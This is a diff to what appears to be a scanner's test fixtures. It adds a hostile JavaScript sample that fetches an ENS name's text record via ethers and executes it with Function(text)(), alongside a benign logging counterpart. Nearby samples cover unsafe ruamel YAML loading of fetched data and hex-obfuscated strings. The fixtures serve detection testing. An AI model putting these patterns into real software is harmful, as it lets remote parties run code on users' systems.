@@ -14,9 +14,18 @@ def _compiled(loader: str, file: str) -> dict[str, str | bytes]:
     }
 
 
+_NAMED = (
+    "import { JsonRpcProvider } from 'ethers';\n"
+    "const resolver = await new JsonRpcProvider('https://a.invalid').getResolver('a.eth');\n"
+    "const text = await resolver.getText('description');\n"
+)
+
 _SPELT = "const names = ['6874747073', '{}', '75746638']\nconst spelt = (text) => Buffer.from(text, 'hex').toString()\n"
 
 HOSTILE: dict[str, dict[str, Sample]] = {
+    "remote_code": {
+        "what a name on a chain says of itself": js(f"{_NAMED}Function(text)();\n", line=4),
+    },
     "remote_object": {
         "ruamel's unsafe reader, kept by an object": py(
             "import requests\nfrom ruamel.yaml import YAML\nclass A:\n    def __init__(self):\n"
@@ -54,6 +63,9 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "remote_code": {
+        "what a name on a chain says of itself is shown": js(f"{_NAMED}console.log(text);\n").files,
+    },
     "remote_object": {
         "ruamel's usual reader": {"a.py": f"import requests\nfrom ruamel.yaml import YAML\nYAML().load({_GET})\n"},
         "ruamel's safe reader": {
